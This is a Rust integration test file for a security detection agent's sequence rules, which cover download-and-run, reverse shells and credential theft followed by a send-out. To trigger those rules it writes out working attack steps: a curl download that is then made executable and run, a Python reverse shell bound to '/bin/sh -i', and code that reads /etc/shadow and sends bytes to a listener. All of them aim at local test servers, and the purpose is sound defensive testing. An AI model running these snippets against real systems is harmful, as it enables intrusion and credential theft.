//! End to end: the default sequence rules (rules/peregrine/sequences.yaml)
//! on real processes under the agent — a download made executable and run,
//! a reverse shell, credentials read then sent — with the same steps out of
//! order or beyond the window raising nothing; and a recorded capture
//! replayed raises the sequence alert the live agent raised.
mod common;

use common::{
    alerts, http_get, peregrine, rule_args, run_failing, run_ok, scratch, wait_for_alert_as,
    wait_until, Peregrine, Running,
};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

const DOWNLOAD: &str = "Downloaded file made executable and run";
const REVERSE: &str = "Shell spawned under a process with an outbound connection";
const CREDS: &str = "Credentials read then outbound connection";
const SHORT: &str = "Short-window copy of the download sequence";

/// The default Peregrine rule files in load order, then a test file with a
/// two-second copy of the download sequence.
fn rule_files(dir: &Path) -> Vec<String> {
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/peregrine");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&rules)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .collect();
    files.sort();
    let text = std::fs::read_to_string(rules.join("sequences.yaml")).unwrap();
    let start = text.find(&format!("- sequence: {DOWNLOAD}")).unwrap();
    let end = start + text[start..].find("  tests:").unwrap();
    let short = text[start..end]
        .replace(DOWNLOAD, SHORT)
        .replace("within: 60s", "within: 2s");
    let extra = dir.join("short.yaml");
    std::fs::write(&extra, short).unwrap();
    files.push(extra);
    files.iter().map(|p| p.display().to_string()).collect()
}

/// The agent with `files`, alerts to `alerts`, metrics on a free port or none.
fn start(files: &[String], alerts: &Path, metrics: bool) -> Running {
    let agent = Peregrine::agent();
    let agent = if metrics {
        agent.metrics()
    } else {
        agent.no_metrics()
    };
    agent.args(rule_args(files)).output_file(alerts).start()
}

fn capture<'a>(a: &'a serde_json::Value, name: &str) -> &'a str {
    a["output_fields"][format!("capture.{name}")]
        .as_str()
        .unwrap_or("")
}

/// This machine's first non-loopback IPv4 address (connections to it are
/// "outbound" for the rules: not 127.0.0.0/8).
fn own_address() -> Ipv4Addr {
    let out = Command::new("hostname").arg("-I").output().unwrap();
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .filter_map(|w| w.parse::<Ipv4Addr>().ok())
        .find(|a| !a.is_loopback())
        .expect("a non-loopback IPv4 address")
}

/// An HTTP server answering every request with `body`.
fn serve(body: Vec<u8>) -> String {
    let l = TcpListener::bind((own_address(), 0)).unwrap();
    let addr = l.local_addr().unwrap();
    std::thread::spawn(move || {
        for mut s in l.incoming().flatten() {
            let mut req = [0u8; 4096];
            let _ = s.read(&mut req);
            let head = format!(
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\n\r\n",
                body.len()
            );
            let _ = s.write_all(head.as_bytes());
            let _ = s.write_all(&body);
        }
    });
    format!("http://{addr}/payload")
}

/// A listener that sends `say` to each connection and reads until it closes.
fn listen(say: &'static str) -> std::net::SocketAddr {
    let l = TcpListener::bind((own_address(), 0)).unwrap();
    let addr = l.local_addr().unwrap();
    std::thread::spawn(move || {
        for mut s in l.incoming().flatten() {
            std::thread::spawn(move || {
                let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
                let _ = s.write_all(say.as_bytes());
                let _ = std::io::copy(&mut s, &mut std::io::sink());
            });
        }
    });
    addr
}

fn sh(script: &str) -> u32 {
    let child = Command::new("sh")
        .args(["-c", script])
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{script}: {:?}", out.status);
    pid
}

fn tmp(name: &str) -> PathBuf {
    scratch(&format!("seq-{name}"))
}

#[test]
fn a_download_made_executable_and_run_alerts_and_the_wrong_order_or_a_late_run_does_not() {
    let dir = tmp("download");
    let files = rule_files(&dir);
    let log = dir.join("alerts.jsonl");
    let agent = start(&files, &log, true);
    let metrics = agent.metrics_addr();
    let url = serve(std::fs::read("/usr/bin/true").unwrap());
    let f = |n: &str| dir.join(n).display().to_string();
    let (run, late, order) = (f("run"), f("late"), f("order"));
    // Downloaded, made executable, run at once.
    sh(&format!(
        "curl -sf -o {run} {url} && chmod +x {run} && {run}"
    ));
    // The same, run three seconds later: beyond the 2s copy's window.
    sh(&format!(
        "curl -sf -o {late} {url} && chmod 755 {late} && sleep 3 && {late}"
    ));
    // Made executable before the download overwrote it: steps out of order.
    sh(&format!(
        "cp /usr/bin/true {order} && chmod +x {order} && curl -sf -o {order} {url} && {order}"
    ));

    let a = wait_for_alert_as(&log, "for the download run", |a| {
        a["rule"] == DOWNLOAD && capture(a, "path") == run
    });
    assert_eq!(a["priority"], "Critical");
    assert_eq!(capture(&a, "tool"), "curl");
    assert_eq!(capture(&a, "chmod_by"), "chmod");
    assert!(capture(&a, "download").contains(&url), "{a}");
    let out = a["output"].as_str().unwrap();
    assert!(
        out.contains(&format!(
            "Downloaded file made executable and run: {run} (downloaded by curl"
        )),
        "{out}"
    );
    assert_eq!(a["output_fields"]["proc.cmdline"], "run");
    assert!(a["tags"].as_array().unwrap().iter().any(|t| t == "T1105"));
    wait_for_alert_as(&log, "of the short copy for the download run", |a| {
        a["rule"] == SHORT && capture(a, "path") == run
    });
    wait_for_alert_as(&log, "for the late run (60s window)", |a| {
        a["rule"] == DOWNLOAD && capture(a, "path") == late
    });
    // Give what is still queued time to arrive before asserting absence.
    std::thread::sleep(Duration::from_secs(2));
    let all = alerts(&log);
    assert!(
        !all.iter()
            .any(|a| a["rule"] == SHORT && capture(a, "path") == late),
        "run 3s later fired the 2s sequence"
    );
    assert!(
        !all.iter()
            .any(|a| a["rule"].as_str().unwrap_or("").contains("ownload")
                && capture(a, "path") == order),
        "steps out of order fired"
    );
    // The counters of the sequence rules.
    let m = metrics_page(&metrics);
    let line = format!("peregrine_sequence_completions_total{{rule=\"{DOWNLOAD}\"}}");
    let done: f64 = m
        .lines()
        .find_map(|l| l.strip_prefix(&line))
        .map(|v| v.trim().parse().unwrap())
        .unwrap_or_else(|| panic!("{line} missing:\n{m}"));
    assert!(done >= 2.0, "{done}");
    assert!(
        m.contains(&format!(
            "peregrine_sequence_partial_matches{{rule=\"{REVERSE}\"}}"
        )),
        "{m}"
    );
    assert!(
        m.contains(&format!(
            "peregrine_sequence_evictions_total{{rule=\"{CREDS}\"}}"
        )),
        "{m}"
    );
    drop(agent);
    std::fs::remove_dir_all(dir).ok();
}

/// The metrics page (they are published once a second).
fn metrics_page(addr: &str) -> String {
    std::thread::sleep(Duration::from_millis(1500));
    http_get(addr, "/metrics")
}

/// Run python3 with `code`; its pid.
fn python(code: &str) -> u32 {
    let child = Command::new("/usr/bin/python3")
        .args(["-c", code])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let pid = child.id();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "python3: {:?}", out.status);
    pid
}

#[test]
fn a_reverse_shell_and_credentials_sent_out_alert_and_the_reverse_order_does_not() {
    let dir = tmp("net");
    let files = rule_files(&dir);
    let log = dir.join("alerts.jsonl");
    let agent = start(&files, &log, false);
    let shell = listen("echo pg-seq-reverse; exit\n");
    let quiet = listen("");
    let (h, p) = (shell.ip(), shell.port());
    let (qh, qp) = (quiet.ip(), quiet.port());
    // A real reverse shell: the shell's standard streams are the socket.
    let reverse = python(&format!(
        "import socket,subprocess\ns=socket.create_connection(('{h}',{p}))\n\
         subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())"
    ));
    // A shell first, the connection after.
    let shell_first = python(&format!(
        "import socket,subprocess\nsubprocess.call(['/bin/sh','-i'],stdin=subprocess.DEVNULL,stderr=subprocess.DEVNULL)\n\
         s=socket.create_connection(('{qh}',{qp}))\ns.close()"
    ));
    // Credentials read, then sent.
    let exfil = python(&format!(
        "import socket\nd=open('/etc/shadow','rb').read()\n\
         s=socket.create_connection(('{qh}',{qp}))\ns.sendall(d[:16])\ns.close()"
    ));
    // Connected first, read after.
    let read_after = python(&format!(
        "import socket\ns=socket.create_connection(('{qh}',{qp}))\ns.close()\nopen('/etc/shadow','rb').read()"
    ));

    let pid_is = |a: &serde_json::Value, name: &str, pid: u32| capture(a, name) == pid.to_string();
    let a = wait_for_alert_as(&log, "for the reverse shell", |a| {
        a["rule"] == REVERSE && pid_is(a, "connector_pid", reverse)
    });
    assert_eq!(a["output_fields"]["proc.cmdline"], "sh -i");
    assert_eq!(capture(&a, "peer"), h.to_string(), "{a}");
    assert_eq!(capture(&a, "port"), p.to_string(), "{a}");
    assert!(
        a["output"]
            .as_str()
            .unwrap()
            .contains(&format!("connected to {h}:{p} ")),
        "{a}"
    );
    assert_eq!(
        a["ancestry"][1]["pid"], reverse,
        "the shell's parent connected"
    );
    let c = wait_for_alert_as(&log, "for the credentials sent out", |a| {
        a["rule"] == CREDS && pid_is(a, "reader_pid", exfil)
    });
    assert_eq!(capture(&c, "file"), "/etc/shadow");
    assert_eq!(c["ancestry"][0]["pid"], exfil);
    assert!(
        c["output"]
            .as_str()
            .unwrap()
            .contains("read /etc/shadow, then"),
        "{c}"
    );
    std::thread::sleep(Duration::from_secs(2));
    let all = alerts(&log);
    assert!(
        !all.iter()
            .any(|a| a["rule"] == REVERSE && pid_is(a, "connector_pid", shell_first)),
        "shell then connection fired"
    );
    assert!(
        !all.iter()
            .any(|a| a["rule"] == CREDS && a["ancestry"][0]["pid"] == read_after),
        "connection then read fired"
    );
    drop(agent);
    std::fs::remove_dir_all(dir).ok();
}

/// Alerts of `rule` as (rule, output fields), sorted.
fn of_rule(all: &[serde_json::Value], rule: &str, path: &str) -> Vec<(String, String)> {
    let mut v: Vec<(String, String)> = all
        .iter()
        .filter(|a| a["rule"] == rule && capture(a, "path") == path)
        .map(|a| (rule.to_string(), a["output_fields"].to_string()))
        .collect();
    v.sort();
    v
}

#[test]
fn a_recorded_download_and_run_replays_to_the_same_sequence_alert() {
    let dir = tmp("replay");
    let files = rule_files(&dir);
    let log = dir.join("live.jsonl");
    let cap = dir.join("work.pgcap");
    let agent = start(&files, &log, false);
    let url = serve(std::fs::read("/usr/bin/true").unwrap());
    let run = dir.join("dropped").display().to_string();
    run_ok(
        peregrine()
            .args(["record", "-o"])
            .arg(&cap)
            .args(rule_args(&files))
            .args(["--", "sh", "-c"])
            .arg(format!(
                "curl -sf -o {run} {url} && chmod +x {run} && {run}"
            )),
    );
    wait_for_alert_as(&log, "live", |a| {
        a["rule"] == DOWNLOAD && capture(a, "path") == run
    });
    drop(agent);
    let live = of_rule(&alerts(&log), DOWNLOAD, &run);

    let replay = run_ok(
        peregrine()
            .arg("replay")
            .arg(&cap)
            .arg("--json")
            .args(rule_args(&files)),
    );
    let replayed: Vec<serde_json::Value> = String::from_utf8(replay.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let replayed = of_rule(&replayed, DOWNLOAD, &run);
    assert_eq!(replayed.len(), 1, "{replayed:?}");
    assert_eq!(replayed, live);
    std::fs::remove_dir_all(dir).ok();
}

/// `peregrine ci` reports a sequence alert like a rule's: the build fails,
/// SARIF describes the sequence rule, JUnit has a failing case for it.
#[test]
fn ci_fails_on_a_sequence_and_reports_it_in_sarif_and_junit() {
    let dir = tmp("ci");
    let files = rule_files(&dir);
    let url = serve(std::fs::read("/usr/bin/true").unwrap());
    let run = dir.join("dropped").display().to_string();
    let (sarif, junit) = (dir.join("r.sarif"), dir.join("r.xml"));
    let out = peregrine()
        .arg("ci")
        .args(rule_args(&files))
        .arg("--sarif")
        .arg(&sarif)
        .arg("--junit")
        .arg(&junit)
        .args(["--", "sh", "-c"])
        .arg(format!(
            "curl -sf -o {run} {url} && chmod +x {run} && {run}"
        ))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!("FAIL  [Critical] {DOWNLOAD}: ")),
        "{err}"
    );
    let doc: serde_json::Value = serde_json::from_slice(&std::fs::read(&sarif).unwrap()).unwrap();
    let run0 = &doc["runs"][0];
    let rule = run0["tool"]["driver"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == DOWNLOAD)
        .unwrap_or_else(|| panic!("no SARIF rule for the sequence: {run0}"));
    assert_eq!(rule["defaultConfiguration"]["level"], "error");
    assert!(rule["fullDescription"]["text"]
        .as_str()
        .unwrap()
        .contains("download tool"));
    assert!(run0["results"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["ruleId"] == DOWNLOAD));
    let xml = std::fs::read_to_string(&junit).unwrap();
    let case =
        format!("<testcase classname=\"peregrine.rules\" name=\"{DOWNLOAD}\">\n      <failure");
    assert!(xml.contains(&case), "{xml}");
    std::fs::remove_dir_all(dir).ok();
}

/// `peregrine rules validate` counts sequence rules and reports a broken
/// one with its place; `rules test` runs their tests.
#[test]
fn rules_validate_and_test_cover_sequences() {
    let dir = tmp("validate");
    let files = rule_files(&dir);
    let out = peregrine()
        .args(["rules", "validate"])
        .args(&files)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("ok: 4 sequence rules (10 steps)"), "{text}");
    let out = peregrine()
        .args(["rules", "test"])
        .args(&files[..files.len() - 1])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}");
    assert!(
        text.contains(&format!("PASS  {DOWNLOAD} :: run after the window")),
        "{text}"
    );
    let bad = dir.join("bad.yaml");
    std::fs::write(
        &bad,
        "- sequence: s\n  desc: d\n  by: user\n  within: 1m\n  output: o\n  priority: NOTICE\n  steps:\n    - condition: evt.type = execve\n    - condition: evt.type = execve and proc.name = ${who}\n",
    )
    .unwrap();
    let err = run_failing(peregrine().args(["rules", "validate"]).arg(&bad));
    let at = format!(
        "{}:9:52: error: '${{who}}' is not captured by an earlier step",
        bad.display()
    );
    assert!(err.contains(&at), "{err}");
    std::fs::remove_dir_all(dir).ok();
}

/// A rule reload (SIGHUP) puts the new file's sequences in force: the same
/// steps then alert under the new name.
#[test]
fn a_reload_puts_new_sequence_rules_in_force() {
    let dir = tmp("reload");
    let files = rule_files(&dir);
    let short = PathBuf::from(files.last().unwrap());
    let log = dir.join("alerts.jsonl");
    let agent = start(&files, &log, false);
    let url = serve(std::fs::read("/usr/bin/true").unwrap());
    let drop_run = |n: u32| {
        let f = dir.join(format!("r{n}")).display().to_string();
        sh(&format!("curl -sf -o {f} {url} && chmod +x {f} && {f}"));
        f
    };
    let first = drop_run(0);
    wait_for_alert_as(&log, "before the reload", |a| {
        a["rule"] == SHORT && capture(a, "path") == first
    });
    let text = std::fs::read_to_string(&short).unwrap();
    std::fs::write(&short, text.replace(SHORT, "Renamed download sequence")).unwrap();
    agent.signal(libc::SIGHUP);
    let mut n = 0;
    wait_until(
        "the renamed sequence to alert",
        Duration::from_secs(20),
        || {
            n += 1;
            let f = drop_run(n);
            std::thread::sleep(Duration::from_millis(500));
            alerts(&log)
                .iter()
                .any(|a| a["rule"] == "Renamed download sequence" && capture(a, "path") == f)
        },
    );
    drop(agent);
    std::fs::remove_dir_all(dir).ok();
}
